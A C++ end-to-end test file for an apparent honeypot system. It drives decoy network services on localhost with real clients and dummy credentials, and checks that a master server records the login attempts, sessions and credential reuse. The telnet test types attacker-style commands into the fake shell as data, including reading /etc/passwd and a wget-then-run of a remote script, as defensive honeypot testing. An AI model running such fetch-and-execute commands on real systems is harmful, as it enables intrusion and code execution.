// A decky and a master, both the real binary, attacked with the real clients Debian packages:
// curl over FTP, POP3, IMAP, SMTP and HTTP, redis-cli, psql, mosquitto_pub, ldapsearch, mariadb,
// and an RFB 3.8 handshake over a socket for VNC (Debian has no VNC client that logs in without a
// terminal). The decky sends its lines over RELP; the master must have stored every credential with
// its kind, the SMTP message, and one reuse finding for the one password tried over both FTP and
// POP3. Stopping the master loses nothing: the decky keeps the lines in its outbox and delivers
// them when the master is back.
#include <gtest/gtest.h>
#include <openssl/sha.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include <fstream>
#include <nlohmann/json.hpp>

#include "core/base64.h"
#include "core/hash.h"
#include "pki_support.h"
#include "serve_support.h"
#include "tests_support.h"

namespace decnet::testing {
namespace {

struct Ports {
  int ftp = free_port(), pop3 = free_port(), imap = free_port(), smtp = free_port(),
      redis = free_port(), http = free_port(), telnet = free_port(), postgres = free_port(),
      mqtt = free_port(), ldap = free_port(), mysql = free_port(), vnc = free_port(),
      mssql = free_port();
};

class DeckyProcess {
 public:
  DeckyProcess(const TempDir& dir, int relp_port, const Ports& p,
               std::map<std::string, std::string> extra = {}) {
    // The decky drops root for nobody, who must reach its outbox.
    ::chmod(dir.path().c_str(), 0711);
    auto env = isolated_env(dir);
    env["DECNET_DECKY_MASTER_PORT"] = std::to_string(relp_port);
    for (auto& [k, v] : extra) env[k] = v;
    child_ = std::make_unique<ChildProcess>(
        std::vector<std::string>{
            decnet_binary(),
            "decky",
            "run",
            "--name",
            "decky-e2e",
            "--services",
            "ftp,pop3,imap,smtp,redis,http,telnet,postgres,mqtt,ldap,mysql,vnc,mssql",
            "--set",
            "mssql.ports=" + std::to_string(p.mssql),
            "--set",
            "vnc.ports=" + std::to_string(p.vnc),
            "--set",
            "mysql.ports=" + std::to_string(p.mysql),
            "--set",
            "ldap.ports=" + std::to_string(p.ldap),
            "--set",
            "mqtt.ports=" + std::to_string(p.mqtt),
            "--set",
            "postgres.ports=" + std::to_string(p.postgres),
            "--set",
            "telnet.ports=" + std::to_string(p.telnet),
            "--set",
            "ftp.ports=" + std::to_string(p.ftp),
            "--set",
            "pop3.ports=" + std::to_string(p.pop3),
            "--set",
            "imap.ports=" + std::to_string(p.imap),
            "--set",
            "smtp.ports=" + std::to_string(p.smtp),
            "--set",
            "redis.ports=" + std::to_string(p.redis),
            "--set",
            "http.ports=" + std::to_string(p.http)},
        env);
    ready_ = wait_until([&] { return TcpClient(p.http).connected(); }, std::chrono::seconds(20));
  }
  bool ready() const { return ready_; }
  ChildProcess& child() { return *child_; }

 private:
  std::unique_ptr<ChildProcess> child_;
  bool ready_ = false;
};

// Reads from `c` until `text` has arrived, and consumes `seen` through it; false at the
// deadline or when the peer closed.
bool expect(TcpClient& c, const std::string& text, std::string& seen) {
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
  char buffer[4096];
  while (std::chrono::steady_clock::now() < deadline) {
    if (const auto at = seen.find(text); at != std::string::npos) {
      seen.erase(0, at + text.size());
      return true;
    }
    pollfd p{c.fd(), POLLIN, 0};
    if (::poll(&p, 1, 50) <= 0) continue;
    const auto n = ::recv(c.fd(), buffer, sizeof buffer, 0);
    if (n <= 0) return false;
    seen.append(buffer, static_cast<std::size_t>(n));
  }
  return false;
}

// What a MySQL client answers to `scramble_hex` for `password` (mysql_native_password).
std::string native_password_answer(const std::string& password, const std::string& scramble_hex) {
  const auto scramble = core::from_hex(scramble_hex).value_or("");
  const auto sha1 = [](const std::string& in) {
    std::string out(SHA_DIGEST_LENGTH, '\0');
    SHA1(reinterpret_cast<const unsigned char*>(in.data()), in.size(),
         reinterpret_cast<unsigned char*>(out.data()));
    return out;
  };
  const auto stage1 = sha1(password);
  const auto mask = sha1(scramble + sha1(stage1));
  std::string answer(SHA_DIGEST_LENGTH, '\0');
  for (std::size_t i = 0; i < answer.size(); ++i)
    answer[i] = static_cast<char>(stage1[i] ^ mask[i]);
  return core::to_hex(answer);
}

// The first `n` bytes from `c`, waiting up to ten seconds; what arrived when it falls short.
std::string receive_exactly(TcpClient& c, std::size_t n) {
  std::string seen;
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
  char buffer[256];
  while (seen.size() < n && std::chrono::steady_clock::now() < deadline) {
    pollfd p{c.fd(), POLLIN, 0};
    if (::poll(&p, 1, 50) <= 0) continue;
    const auto got = ::recv(c.fd(), buffer, std::min(sizeof buffer, n - seen.size()), 0);
    if (got <= 0) break;
    seen.append(buffer, static_cast<std::size_t>(got));
  }
  return seen;
}

CommandResult attack(std::vector<std::string> argv) {
  return run_command(argv, {}, std::chrono::seconds(20));
}

std::string url(const char* scheme, int port) {
  return std::string(scheme) + "://127.0.0.1:" + std::to_string(port) + "/";
}

class DeckyEndToEnd : public ::testing::Test {
 protected:
  int relp_port_ = free_port();
  ServeProcess master_{{{"DECNET_SYSLOG_RELP_ENABLED", "true"},
                        {"DECNET_SYSLOG_RELP_PORT", std::to_string(relp_port_)}}};
  TempDir decky_dir_;
  Ports ports_;

  std::optional<std::int64_t> count(const std::string& where) {
    return sqlite_int(master_.db(), "SELECT count(*) FROM credentials WHERE " + where);
  }
  bool stored(const std::string& where) {
    return wait_until([&] { return count(where).value_or(0) > 0; }, std::chrono::seconds(20));
  }
};

TEST_F(DeckyEndToEnd, RealClientsCredentialsLandOnTheMasterWithTheirKinds) {
  ASSERT_TRUE(master_.wait_ready()) << master_.output();
  DeckyProcess decky(decky_dir_, relp_port_, ports_);
  ASSERT_TRUE(decky.ready()) << decky.child().output();

  // One password over FTP and POP3: one reuse finding.
  EXPECT_NE(attack({"curl", "-sS", "--max-time", "10", url("ftp", ports_.ftp), "--user",
                    "alice:Winter2024!"})
                .status,
            0);
  EXPECT_NE(attack({"curl", "-sS", "--max-time", "10", url("pop3", ports_.pop3), "--user",
                    "alice:Winter2024!"})
                .status,
            0);
  EXPECT_NE(attack({"curl", "-sS", "--max-time", "10", url("imap", ports_.imap), "--user",
                    "bob:imap-secret"})
                .status,
            0);
  EXPECT_NE(attack({"curl", "-sS", "--max-time", "10", url("smtp", ports_.smtp), "--user",
                    "carol:smtp-secret", "--mail-from", "carol@example.org", "--mail-rcpt",
                    "x@example.net", "-T", "/dev/null"})
                .status,
            0);
  const auto message = decky_dir_ / "message.eml";
  std::ofstream(message) << "Subject: invoice\r\n\r\nPlease see attached.\r\n";
  const auto relayed =
      attack({"curl", "-sS", "--max-time", "10", url("smtp", ports_.smtp), "--mail-from",
              "spam@evil.example", "--mail-rcpt", "ceo@victim.example", "-T", message.string()});
  EXPECT_EQ(relayed.status, 0) << relayed.output;  // an open relay takes the message
  const auto basic =
      attack({"curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "-u",
              "dave:http-secret", url("http", ports_.http) + "admin"});
  EXPECT_EQ(basic.output, "401");
  attack({"curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-d",
          "username=erin&password=form-secret", url("http", ports_.http) + "login"});
  attack({"curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-H",
          "Authorization: Bearer tok-123", url("http", ports_.http) + "api/v1/status"});
  const auto redis = attack({"redis-cli", "-h", "127.0.0.1", "-p", std::to_string(ports_.redis),
                             "--no-auth-warning", "-a", "redis-secret", "PING"});
  EXPECT_NE(redis.output.find("WRONGPASS"), std::string::npos) << redis.output;

  const auto psql = run_command({"psql", "-h", "127.0.0.1", "-p", std::to_string(ports_.postgres),
                                 "-U", "postgres", "-d", "prod", "-c", "select 1"},
                                {{"PGPASSWORD", "pg-secret"}, {"PGCONNECT_TIMEOUT", "10"}},
                                std::chrono::seconds(20));
  EXPECT_NE(psql.output.find("password authentication failed for user \"postgres\""),
            std::string::npos)
      << psql.output;

  EXPECT_NE(attack({"mosquitto_pub", "-h", "127.0.0.1", "-p", std::to_string(ports_.mqtt), "-u",
                    "iotuser", "-P", "iotpass", "-t", "t", "-m", "m"})
                .status,
            0);
  const auto mariadb = attack({"mariadb", "-h", "127.0.0.1", "-P", std::to_string(ports_.mysql),
                               "-u", "root", "-pmy-secret", "-D", "prod", "-e", "select 1"});
  EXPECT_NE(mariadb.output.find("Access denied for user 'root'@'127.0.0.1' (using password: YES)"),
            std::string::npos)
      << mariadb.output;
  EXPECT_TRUE(stored(
      "service = 'mysql' AND principal = 'root' AND secret_kind = 'mysql_native_password' AND "
      "length(secret_printable) = 40"));
  // The answer is SHA1(pw) XOR SHA1(scramble + SHA1(SHA1(pw))) for the scramble on the line.
  const auto line = sqlite_value(master_.db(),
                                 "SELECT fields FROM logs WHERE service = 'mysql' AND "
                                 "event_type = 'auth'");
  ASSERT_TRUE(line);
  const auto fields = nlohmann::json::parse(*line);
  EXPECT_EQ(fields.value("database", ""), "prod");
  EXPECT_EQ(fields.value("secret_printable", ""),
            native_password_answer("my-secret", fields.value("scramble", "")));

  const auto tsql = run_command({"tsql", "-H", "127.0.0.1", "-p", std::to_string(ports_.mssql),
                                 "-U", "sa", "-P", "Mssql-Secret1", "-D", "master"},
                                {{"TDSVER", "7.4"}}, std::chrono::seconds(20));
  EXPECT_NE(tsql.output.find("Login failed for user 'sa'"), std::string::npos) << tsql.output;
  EXPECT_TRUE(
      stored("service = 'mssql' AND principal = 'sa' AND secret_kind = 'plaintext' AND "
             "secret_printable = 'Mssql-Secret1' AND attacker_ip = '127.0.0.1'"));

  TcpClient vnc(ports_.vnc);
  ASSERT_TRUE(vnc.connected());
  EXPECT_EQ(receive_exactly(vnc, 12), "RFB 003.008\n");
  vnc.send("RFB 003.008\n");
  EXPECT_EQ(receive_exactly(vnc, 2), std::string("\x01\x02", 2));  // VNC authentication only
  vnc.send(std::string(1, '\x02'));
  const auto challenge = receive_exactly(vnc, 16);
  EXPECT_EQ(challenge.size(), 16u);
  std::string response;
  for (int i = 0; i < 16; ++i) response += static_cast<char>(0xa0 + i);
  vnc.send(response);
  const auto result = receive_exactly(vnc, 4 + 4 + 21);
  EXPECT_EQ(result, std::string("\0\0\0\x01\0\0\0\x15", 8) + "Authentication failed");
  EXPECT_TRUE(
      stored("service = 'vnc' AND secret_kind = 'vnc_des_response' AND secret_printable = "
             "'a0a1a2a3a4a5a6a7a8a9aaabacadaeaf' AND attacker_ip = '127.0.0.1'"));
  EXPECT_EQ(sqlite_value(master_.db(),
                         "SELECT json_extract(fields, '$.challenge') FROM logs WHERE service = "
                         "'vnc' AND event_type = 'auth_response'"),
            core::to_hex(challenge));

  const auto ldap_url = "ldap://127.0.0.1:" + std::to_string(ports_.ldap);
  const auto root_dse = attack(
      {"ldapsearch", "-x", "-LLL", "-H", ldap_url, "-b", "", "-s", "base", "namingContexts"});
  EXPECT_EQ(root_dse.status, 0) << root_dse.output;
  EXPECT_NE(root_dse.output.find("namingContexts: dc=localdomain"), std::string::npos)
      << root_dse.output;
  const auto ldap_bind =
      attack({"ldapsearch", "-x", "-H", ldap_url, "-D", "cn=admin,dc=localdomain", "-w",
              "ldap-secret", "-b", "dc=localdomain", "(objectClass=person)", "cn", "mail"});
  EXPECT_NE(ldap_bind.output.find("Invalid credentials (49)"), std::string::npos)
      << ldap_bind.output;
  const auto anonymous = attack({"ldapsearch", "-x", "-H", ldap_url, "-b", "dc=localdomain",
                                 "(&(objectClass=person)(uid=adm*))", "uid"});
  EXPECT_EQ(anonymous.status, 0) << anonymous.output;
  EXPECT_TRUE(
      stored("service = 'ldap' AND principal = 'cn=admin,dc=localdomain' AND secret_kind = "
             "'plaintext' AND secret_printable = 'ldap-secret' AND attacker_ip = '127.0.0.1'"));
  EXPECT_TRUE(wait_until(
      [&] {
        return sqlite_int(master_.db(),
                          "SELECT count(*) FROM logs WHERE service = 'ldap' AND event_type = "
                          "'ldap_search' AND fields LIKE '%(&(objectClass=person)(uid=adm*))%'")
                   .value_or(0) == 1;
      },
      std::chrono::seconds(20)));
  EXPECT_TRUE(
      stored("service = 'mqtt' AND principal = 'iotuser' AND secret_printable = "
             "'iotpass' AND attacker_ip = '127.0.0.1'"));
  EXPECT_TRUE(
      stored("service = 'postgres' AND principal = 'postgres' AND secret_kind = "
             "'postgres_md5_challenge' AND secret_printable LIKE 'md5%'"));
  // The secret itself is the hash's 16 raw bytes, not its text.
  const auto pg_hash = sqlite_value(master_.db(),
                                    "SELECT json_extract(fields, '$.pw_hash') FROM logs WHERE "
                                    "service = 'postgres' AND event_type = 'auth'");
  ASSERT_TRUE(pg_hash && pg_hash->size() == 35) << pg_hash.value_or("");
  EXPECT_EQ(sqlite_value(master_.db(),
                         "SELECT json_extract(fields, '$.secret_b64') FROM logs WHERE service = "
                         "'postgres' AND event_type = 'auth'"),
            core::base64_encode(core::from_hex(pg_hash->substr(3)).value_or("")));
  EXPECT_TRUE(
      stored("service = 'ftp' AND principal = 'alice' AND secret_kind = 'plaintext' AND "
             "secret_printable = 'Winter2024!' AND attacker_ip = '127.0.0.1'"));
  EXPECT_TRUE(stored("service = 'pop3' AND principal = 'alice' AND outcome = 'failure'"));
  EXPECT_TRUE(
      stored("service = 'imap' AND principal = 'bob' AND secret_printable = 'imap-secret'"));
  EXPECT_TRUE(
      stored("service = 'smtp' AND principal = 'carol' AND secret_printable = "
             "'smtp-secret'"));
  EXPECT_TRUE(stored("service = 'http' AND principal = 'dave' AND secret_kind = 'plaintext'"));
  EXPECT_TRUE(
      stored("service = 'http' AND principal = 'erin' AND secret_printable = "
             "'form-secret'"));
  EXPECT_TRUE(
      stored("service = 'http' AND secret_kind = 'http_bearer' AND secret_printable = "
             "'tok-123'"));
  EXPECT_TRUE(
      stored("service = 'redis' AND principal = 'default' AND secret_printable = "
             "'redis-secret'"));
  EXPECT_TRUE(stored("decky_name = 'decky-e2e'"));
  EXPECT_TRUE(wait_until(
      [&] {
        return sqlite_int(master_.db(),
                          "SELECT count(*) FROM credential_reuse WHERE secret_sha256 = '" +
                              core::sha256_hex("Winter2024!") + "' AND target_count = 2")
                   .value_or(0) == 1;
      },
      std::chrono::seconds(20)));
  EXPECT_TRUE(wait_until(
      [&] {
        return sqlite_int(master_.db(),
                          "SELECT count(*) FROM logs WHERE event_type = 'message_accepted' AND "
                          "service = 'smtp'")
                   .value_or(0) == 1;
      },
      std::chrono::seconds(20)));
}

// A telnet login with the persona's root password opens the fake shell; the master gets the
// login as a successful attempt, each command, the download tried, and the recorded session
// with its keystrokes, which its session row names.
TEST_F(DeckyEndToEnd, ATelnetSessionIsRecordedOnTheMaster) {
  ASSERT_TRUE(master_.wait_ready()) << master_.output();
  DeckyProcess decky(decky_dir_, relp_port_, ports_);
  ASSERT_TRUE(decky.ready()) << decky.child().output();
  TcpClient c(ports_.telnet);
  ASSERT_TRUE(c.connected()) << decky.child().output();
  std::string seen;
  ASSERT_TRUE(expect(c, "login: ", seen)) << seen;
  c.send("root\r\n");
  ASSERT_TRUE(expect(c, "Password: ", seen)) << seen;
  c.send("wrong\r\n");
  ASSERT_TRUE(expect(c, "Login incorrect", seen)) << seen;
  ASSERT_TRUE(expect(c, "login: ", seen)) << seen;
  c.send("root\r\n");
  ASSERT_TRUE(expect(c, "Password: ", seen)) << seen;
  c.send("admin\r\n");
  ASSERT_TRUE(expect(c, "root@decky-e2e:~# ", seen)) << seen;
  for (const char* typed : {"uname -a", "cat /etc/passwd | grep root",
                            "cd /tmp; wget http://203.0.113.50/x.sh; sh x.sh"}) {
    for (const char* k = typed; *k; ++k) c.send(std::string(1, *k));  // keystroke by keystroke
    c.send("\r\n");
    ASSERT_TRUE(expect(c, "# ", seen)) << typed << ": " << seen;
  }
  c.send("exit\r\n");
  EXPECT_TRUE(expect(c, "logout", seen)) << seen;

  EXPECT_TRUE(
      stored("service = 'telnet' AND principal = 'root' AND outcome = 'success' AND "
             "secret_printable = 'admin'"));
  EXPECT_TRUE(stored("service = 'telnet' AND principal = 'root' AND secret_printable = 'wrong'"));
  EXPECT_TRUE(wait_until(
      [&] {
        return sqlite_int(master_.db(),
                          "SELECT count(*) FROM sessions WHERE service = 'telnet' AND outcome = "
                          "'logged_in' AND recording IS NOT NULL AND commands LIKE '%uname -a%' "
                          "AND commands LIKE '%wget http://203.0.113.50/x.sh%'")
                   .value_or(0) == 1;
      },
      std::chrono::seconds(30)))
      << sqlite_value(master_.db(),
                      "SELECT json_object('outcome', outcome, 'recording', "
                      "recording, 'commands', commands) FROM sessions WHERE "
                      "service = 'telnet'")
             .value_or("no session");
  const auto recording =
      sqlite_value(master_.db(),
                   "SELECT recording FROM sessions WHERE service = 'telnet' AND recording IS "
                   "NOT NULL");
  ASSERT_TRUE(recording);
  std::ifstream shard(master_.data_dir() / *recording);
  const std::string text((std::istreambuf_iterator<char>(shard)), {});
  EXPECT_NE(text.find("\"hdr\":{\"version\":2"), std::string::npos) << text.substr(0, 300);
  EXPECT_NE(text.find("\"ch\":\"i\",\"d\":\"u\""), std::string::npos);  // one keystroke
  EXPECT_TRUE(wait_until(
      [&] {
        return sqlite_int(master_.db(),
                          "SELECT count(*) FROM logs WHERE event_type = "
                          "'download_attempt' AND service = 'telnet'")
                   .value_or(0) == 1;
      },
      std::chrono::seconds(20)));
}

TEST_F(DeckyEndToEnd, LinesWaitInTheOutboxWhileTheMasterIsAway) {
  ASSERT_TRUE(master_.wait_ready()) << master_.output();
  DeckyProcess decky(decky_dir_, relp_port_, ports_);
  ASSERT_TRUE(decky.ready()) << decky.child().output();
  EXPECT_NE(attack({"curl", "-sS", "--max-time", "10", url("ftp", ports_.ftp), "--user",
                    "first:before-restart"})
                .status,
            0);
  ASSERT_TRUE(stored("principal = 'first'"));
  ASSERT_EQ(master_.child().stop(SIGTERM), 0);
  for (int i = 0; i < 5; ++i) {
    attack({"curl", "-sS", "--max-time", "10", url("ftp", ports_.ftp), "--user",
            "away" + std::to_string(i) + ":while-down"});
  }
  master_.restart();
  ASSERT_TRUE(master_.wait_ready()) << master_.output();
  EXPECT_TRUE(wait_until([&] { return count("secret_printable = 'while-down'").value_or(0) == 5; },
                         std::chrono::seconds(60)));
  // Nothing twice: one attempt each.
  EXPECT_EQ(sqlite_int(master_.db(),
                       "SELECT sum(attempt_count) FROM credentials WHERE "
                       "secret_printable = 'while-down'"),
            5);
  ASSERT_EQ(decky.child().stop(SIGTERM), 0) << decky.child().output();
}

// RELP over TLS: the decky checks the master's certificate and name, the master the decky's
// client certificate; a decky without one delivers nothing and keeps its lines.
TEST(DeckyOverTls, ASensorCertificateDeliversAndNoCertificateDoesNot) {
  TempDir pki_dir;
  ::chmod(pki_dir.path().c_str(), 0755);
  Pki pki(pki_dir.path());
  for (const auto& e : std::filesystem::directory_iterator(pki_dir.path())) {
    ::chmod(e.path().c_str(), 0644);  // read by the decky after it became nobody
  }
  const int relp_port = free_port();
  ServeProcess master({{"DECNET_SYSLOG_RELP_ENABLED", "true"},
                       {"DECNET_SYSLOG_RELP_PORT", std::to_string(relp_port)},
                       {"DECNET_SYSLOG_RELP_TLS", "true"},
                       {"DECNET_SYSLOG_TLS_CERT", pki.file("server.pem")},
                       {"DECNET_SYSLOG_TLS_KEY", pki.file("server.key")},
                       {"DECNET_SYSLOG_TLS_CLIENT_CA", pki.file("ca.pem")}});
  ASSERT_TRUE(master.wait_ready()) << master.output();
  const std::map<std::string, std::string> tls{{"DECNET_DECKY_TLS", "true"},
                                               {"DECNET_DECKY_TLS_CA", pki.file("ca.pem")}};
  auto with_cert = tls;
  with_cert["DECNET_DECKY_TLS_CERT"] = pki.file("sensor.pem");
  with_cert["DECNET_DECKY_TLS_KEY"] = pki.file("sensor.key");
  TempDir good_dir, bare_dir;
  Ports good_ports, bare_ports;
  DeckyProcess good(good_dir, relp_port, good_ports, with_cert);
  DeckyProcess bare(bare_dir, relp_port, bare_ports, tls);
  ASSERT_TRUE(good.ready()) << good.child().output();
  ASSERT_TRUE(bare.ready()) << bare.child().output();
  attack({"curl", "-sS", "--max-time", "10", url("ftp", good_ports.ftp), "--user",
          "tls:with-certificate"});
  attack({"curl", "-sS", "--max-time", "10", url("ftp", bare_ports.ftp), "--user",
          "tls:without-certificate"});
  EXPECT_TRUE(wait_until(
      [&] {
        return sqlite_int(master.db(),
                          "SELECT count(*) FROM credentials WHERE "
                          "secret_printable = 'with-certificate'")
                   .value_or(0) == 1;
      },
      std::chrono::seconds(20)));
  EXPECT_EQ(sqlite_int(master.db(),
                       "SELECT count(*) FROM credentials WHERE secret_printable = "
                       "'without-certificate'"),
            0);
  ASSERT_EQ(bare.child().stop(SIGTERM), 0);
  EXPECT_NE(bare.child().output().find("waiting in the outbox"), std::string::npos);
  EXPECT_EQ(bare.child().output().find(" 0 waiting in the outbox"), std::string::npos)
      << bare.child().output();
}

}  // namespace
}  // namespace decnet::testing
